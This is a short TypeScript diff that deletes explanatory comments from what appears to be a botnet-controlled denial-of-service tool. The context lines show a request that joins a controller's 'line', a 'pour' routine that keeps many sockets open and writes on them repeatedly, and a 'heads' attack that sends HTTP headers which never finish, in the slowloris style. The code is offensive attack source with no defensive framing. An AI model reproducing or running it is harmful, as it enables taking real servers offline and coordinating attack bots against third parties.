@@ -59,10 +59,8 @@ function joinRequest(orders: LoudOrders): string {
   return request(orders, `POST ${orders.line}/join`, headers, body);
 }
 
-/** What is done on sockets again and again. */
 type Attack = { readonly sockets: Iterable<Socket>; readonly everyMs: number; round(): void };
 
-/** Keeps so many sockets open and writes on each. */
 function pour(count: number, open: () => Socket, write: (socket: Socket) => void) {
   const sockets: Socket[] = [];
   const round = () => {
@@ -97,7 +95,6 @@ const ATTACKS = {
     };
     return { everyMs: STATUS.everyMs, ...pour(STATUS.sockets, open, write) };
   },
-  /** Opens heads that never end, and others for those that are closed. */
   heads(orders: LoudOrders, seen: LoudReport): Attack {
     const sockets = new Set<Socket>();
     const head = `GET / HTTP/1.1\r\nHost: ${orders.host}\r\nX-Slow: `;
